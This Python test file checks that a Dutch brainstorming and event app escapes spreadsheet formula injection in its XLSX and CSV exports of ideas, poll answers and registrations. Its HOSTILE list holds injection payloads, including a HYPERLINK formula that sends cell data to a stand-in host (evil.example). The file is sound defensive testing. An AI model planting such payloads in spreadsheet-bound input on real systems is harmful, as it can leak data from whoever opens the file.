"""Spreadsheet formula injection (OWASP): what participants, poll visitors and registrants
type is plain text in every XLSX and CSV download, never a live formula."""

import csv
import io
import zipfile
from collections import Counter
from datetime import time, timedelta
from uuid import uuid4

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from brainstorm.events.models import ExtraQuestion, Registration
from brainstorm.events.services import create_event
from brainstorm.exports import csv_text, xlsx_bytes
from brainstorm.extensions import db
from brainstorm.polls.models import Answer, Poll
from brainstorm.sessions.models import Idea
from brainstorm.timeutil import local_today

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "=1+2",
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
NORMAL = "Werkdruk van schoolopleiders in de regio"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def workbook(data: bytes):
    return load_workbook(io.BytesIO(data))


def cells(book) -> list:
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def assert_text_cells(book, texts: list[str]) -> None:
    """No formula anywhere; every text is a text cell holding exactly what was stored."""
    every = cells(book)
    assert not [cell.coordinate for cell in every if cell.data_type == "f"]
    shown = {cell.value for cell in every if cell.data_type == "s"}
    assert set(texts) <= shown
    assert {cell.data_type for cell in every if cell.value in texts} == {"s"}


def assert_escaped_fields(rows: list[list[str]], texts: list[str]) -> None:
    """Each text that looks like a formula comes back behind an apostrophe, and no field of
    the file starts like a formula."""
    fields = [field for row in rows for field in row]
    assert not [field for field in fields if field.startswith(TRIGGERS)]
    for text in texts:
        if text.startswith(TRIGGERS):
            assert f"'{text}" in fields, text
        else:
            assert text in fields, text


def test_the_writers_escape_text_and_keep_our_numbers():
    rows = [["tekst", "getal", "komma"], *([text, -3, 2.5] for text in [*HOSTILE, NORMAL])]
    fields = csv_rows(csv_text(rows).encode())
    assert [row[0] for row in fields[1:]] == [f"'{text}" for text in HOSTILE] + [NORMAL]
    # Numbers stay numbers, with a decimal comma for Dutch Excel (even a negative one).
    assert {tuple(row[1:]) for row in fields[1:]} == {("-3", "2,5")}
    assert csv_rows(csv_text([[-2.5]]).encode()) == [["-2,5"]]
    # Dutch Excel splits on ";": text is quoted, so no second field starts with "=".
    assert '"Werkdruk;=1+2";-3\r\n' in csv_text([["Werkdruk;=1+2", -3]])
    # A newline inside a vraagstuk stays inside its field.
    assert csv_rows(csv_text([["regel 1\nregel 2", 1]]).encode()) == [["regel 1\nregel 2", "1"]]
    sheet = workbook(xlsx_bytes({"blad": rows}))["blad"]
    values = list(sheet.iter_rows(min_row=2, values_only=True))
    assert values == [(text, -3, 2.5) for text in [*HOSTILE, NORMAL]]
    assert {c.data_type for row in sheet.iter_rows(min_row=2) for c in row} == {"s", "n"}
    quoted = [c.value for c in sheet["A"] if c.quotePrefix]
    assert quoted == HOSTILE  # stays text when someone edits the cell in Excel
    error = workbook(xlsx_bytes({"blad": [["#N/A"]]}))["blad"]["A1"]
    assert (error.value, error.data_type) == ("#N/A", "s")  # text, not an error value


@pytest.fixture
def hostile_session(app, make_user, make_session, join, login):
    """A session whose vraagstukken and pre-session poll answers are all hostile (plus one
    normal text), and a staff member who downloads."""
    facilitator, staff = make_user(), make_user()
    bs = make_session(facilitator, staff=[staff])
    participant = join(bs, "Deelnemer")
    for text in [*HOSTILE, NORMAL]:
        ack = participant.emit(
            "submit_idea", {"text": text, "client_id": str(uuid4())}, callback=True
        )
        assert ack["ok"], ack
    client = login(facilitator)
    client.post(
        f"/events/{bs.event_id}/polls",
        data={"title": "Poll vooraf", "kind": "pre", "session_id": 0},
    )
    poll = db.session.scalar(select(Poll))
    client.post(f"/polls/{poll.id}", data={"type": "open", "text": "Welk vraagstuk?"})
    db.session.refresh(poll)
    for text in [*HOSTILE, NORMAL]:  # anonymous visitors, each their own browser
        response = app.test_client().post(
            f"/p/{poll.slug}", data={f"q{poll.questions[0].id}": text}
        )
        assert response.status_code == 302, response.status_code
    return bs, poll, client, login(staff)


def test_ideas_are_text_in_the_report_xlsx_and_csv_zip(hostile_session):
    bs, _poll, _client, staff = hostile_session
    ideas = list(db.session.scalars(select(Idea.text).filter_by(session_id=bs.id)))
    answers = list(db.session.scalars(select(Answer.value)))
    assert len(ideas) == len(HOSTILE) + 1 and NORMAL in ideas and "=1+2" in ideas

    book = workbook(staff.get(f"/sessions/{bs.id}/report.xlsx").data)
    grouped = [f"{a} ({n}×)" if n > 1 else a for a, n in Counter(answers).items()]
    assert_text_cells(book, ideas + grouped)
    votes = [row[4] for row in book["vraagstukken"].iter_rows(min_row=2, values_only=True)]
    assert votes == [0] * len(ideas)  # the numbers we write stay numbers

    archive = zipfile.ZipFile(io.BytesIO(staff.get(f"/sessions/{bs.id}/report.zip").data))
    rows = csv_rows(archive.read("vraagstukken.csv"))
    assert_escaped_fields(rows, ideas)
    assert {row[4] for row in rows[1:]} == {"0"}
    # The same open answer given twice is one line with its count.
    assert_escaped_fields(csv_rows(archive.read("peilingen.csv")), grouped)
    for name in archive.namelist():
        assert_escaped_fields(csv_rows(archive.read(name)), [])


def test_anonymous_poll_answers_are_text_in_the_poll_exports(hostile_session):
    _bs, poll, client, _staff = hostile_session
    answers = list(db.session.scalars(select(Answer.value).order_by(Answer.id)))
    assert len(answers) == len(HOSTILE) + 1 and "@SUM(A1)" in answers

    response = client.get(f"/polls/{poll.id}/export.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"  # once, not twice
    rows = csv_rows(response.data)
    assert_escaped_fields(rows, answers)
    assert [row[0] for row in rows[1:]] == [str(n) for n in range(1, len(answers) + 1)]
    assert {row[2] for row in rows[1:]} == {"Welk vraagstuk?"}

    book = workbook(client.get(f"/polls/{poll.id}/export.xlsx").data)
    assert_text_cells(book, answers)
    numbers = [row[0] for row in book["Antwoorden"].iter_rows(min_row=2, values_only=True)]
    assert numbers == list(range(1, len(answers) + 1))
    results = [row[1] for row in book["Resultaten"].iter_rows(min_row=2, values_only=True)]
    assert sorted(results) == sorted(answers)


@pytest.fixture
def hostile_registrations(app, make_user, login):
    """Registrations through the public form with hostile name, organisation, role,
    partnership, remarks, answer and e-mail address (which may start with "=" or "+")."""
    facilitator = make_user()
    day = local_today() + timedelta(days=60)
    event = create_event(facilitator, "Brainstormsessie RATO", day, time(9), time(11))
    event.published = True
    db.session.add(ExtraQuestion(event=event, label="Wat wil je bespreken?"))
    db.session.commit()
    question = event.questions[0]
    for n, text in enumerate([*HOSTILE, NORMAL]):
        email = "=1+2@school.nl" if n == 1 else f"persoon{n}@school.nl"
        fields = {"name": text, "organisation": text, "role": text, "partnership": text}
        response = app.test_client().post(
            f"/evenementen/{event.id}",
            data={
                **fields,
                "email": email,
                "sector": "vo",
                "remarks": text,
                "consent": "y",
                f"q{question.id}": text,
            },
        )
        assert response.status_code == 302, response.get_data(as_text=True)[:500]
    return event, login(facilitator)


def test_registrations_are_text_in_the_registrations_csv_and_xlsx(hostile_registrations):
    event, client = hostile_registrations
    people = list(db.session.scalars(select(Registration).filter_by(event_id=event.id)))
    texts = [
        value
        for r in people
        for value in (r.name, r.email, r.organisation, r.role, r.partnership, r.remarks)
    ] + [answer for r in people for answer in r.answers.values()]
    assert "=1+2@school.nl" in texts and NORMAL in texts and "-1+2" in texts

    rows = csv_rows(client.get(f"/events/{event.id}/registrations.csv").data)
    assert_escaped_fields(rows, texts)
    assert len(rows) == 1 + len(people) and {row[4] for row in rows[1:]} == {"vo"}

    book = workbook(client.get(f"/events/{event.id}/registrations.xlsx").data)
    assert_text_cells(book, texts)
